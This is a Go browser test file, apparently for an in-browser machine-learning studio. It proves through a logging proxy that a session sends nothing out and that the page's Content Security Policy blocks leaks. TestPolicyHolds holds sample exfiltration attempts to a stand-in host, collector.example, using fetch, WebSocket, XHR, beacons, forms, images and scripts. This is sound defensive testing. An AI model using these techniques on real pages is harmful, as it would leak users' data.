//go:build browser

package tests

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/terrarium-ml/terrarium/tests/browser"
)

// Contract C5, the proof: a whole session, with everything the browser says going
// through a proxy that writes it down. Only the site's own static files are asked
// for, and nothing at all once the page runs. That the proxy sees a worker's requests
// is shown by its own test, tests/browser TestProxySeesWhatLeaves.
func TestNothingLeaves(t *testing.T) {
	server := browser.Site(t, nil)
	proxy := browser.NewProxy(t, server)
	s := openStudio(t, browser.Chromium(t, proxy.Settings()...), server+"/deep/site/")
	loaded := len(proxy.Seen())

	dir := t.TempDir()
	table := filepath.Join(dir, "patients.csv")
	require.NoError(t, os.WriteFile(table, []byte(patients()), 0o644))
	s.open(table)
	s.train(1)
	s.answer()
	s.set("save-name", "patients")
	s.press("save")
	s.WaitFor(`document.querySelector('#models li[data-model]')`)
	downloads := t.TempDir()
	s.Downloads(downloads)
	s.press("download")
	file := s.waitForFile(downloads)
	s.Run(chromedp.SetUploadFiles("#model-file", []string{file}, chromedp.ByQuery))
	s.WaitFor(`document.querySelector('#loaded-model')`)
	s.KillWorkers() // a fresh engine has nothing to fetch either
	s.press("go-on")
	s.WaitFor(`!document.querySelector('#engine-lost')`)

	seen := proxy.Seen()
	assert.Empty(t, browser.Strange(seen, siteFiles(t, server+"/deep/site/")))
	assert.Empty(t, seen[loaded:], "the page asked for something after it ran")
}

// The same page, made to misbehave: whatever the main thread and the engine's worker
// try, the policy lets nothing out.
func TestPolicyHolds(t *testing.T) {
	server := browser.Site(t, nil)
	proxy := browser.NewProxy(t, server)
	s := openStudio(t, browser.Chromium(t, proxy.Settings()...), server+"/deep/site/")
	loaded := len(proxy.Seen())
	s.Expect("Content Security Policy")
	s.Expect("Content-Security-Policy")
	s.Expect("violates")
	attempts := `Promise.all([
		...['http://collector.example/?data', '` + server + `/deep/site/index.html?data'].map((url) => fetch(url).then(() => 'sent by fetch', () => 'refused')),
		new Promise((done) => { try {
			const socket = new WebSocket('ws://collector.example/');
			socket.onopen = () => done('sent by socket');
			socket.onerror = () => done('refused');
		} catch { done('refused'); } }),
		new Promise((done) => { try {
			const request = new XMLHttpRequest();
			request.open('POST', 'http://collector.example/');
			request.onload = () => done('sent by request');
			request.onerror = () => done('refused');
			request.send('data');
		} catch { done('refused'); } }),
	])`
	want := []string{"refused", "refused", "refused", "refused"}
	var got []string
	s.Eval(attempts, &got)
	assert.Equal(t, want, got, "on the page")
	for _, got := range s.InWorkers(attempts) {
		assert.JSONEq(t, `["refused","refused","refused","refused"]`, got, "in the worker")
	}
	// What needs no connect-src: a picture, a form, a frame, a script, a worker.
	s.Eval(`(() => {
		const add = (name, set) => document.body.append(Object.assign(document.createElement(name), set));
		add('img', { src: 'http://collector.example/picture?data' });
		add('script', { src: 'http://collector.example/script?data' });
		add('iframe', { src: 'http://collector.example/frame?data' });
		add('link', { rel: 'stylesheet', href: 'http://collector.example/style?data' });
		navigator.sendBeacon('http://collector.example/beacon', 'data');
		const form = Object.assign(document.createElement('form'), { action: 'http://collector.example/form', method: 'post' });
		document.body.append(form);
		form.submit();
		return new Promise((done) => setTimeout(done, 300));
	})()`, nil)
	assert.Empty(t, proxy.Seen()[loaded:])
}

// siteFiles are the addresses of all files of the site.
func siteFiles(t *testing.T, url string) []string {
	t.Helper()
	entries, err := os.ReadDir(filepath.Join(browser.Root(t), "site"))
	require.NoError(t, err)
	files := []string{url}
	for _, e := range entries {
		if !e.IsDir() {
			files = append(files, url+e.Name())
		}
	}
	return files
}

// patients is a small table with something to learn.
func patients() string {
	var b strings.Builder
	b.WriteString("name,age,pressure,ill\n")
	for i := range 120 {
		age := i * 37 % 90
		ill := map[bool]string{false: "no", true: "yes"}[age > 50]
		fmt.Fprintf(&b, "person %d,%d,%d,%s\n", i, age, 100+i%50, ill)
	}
	return b.String()
}
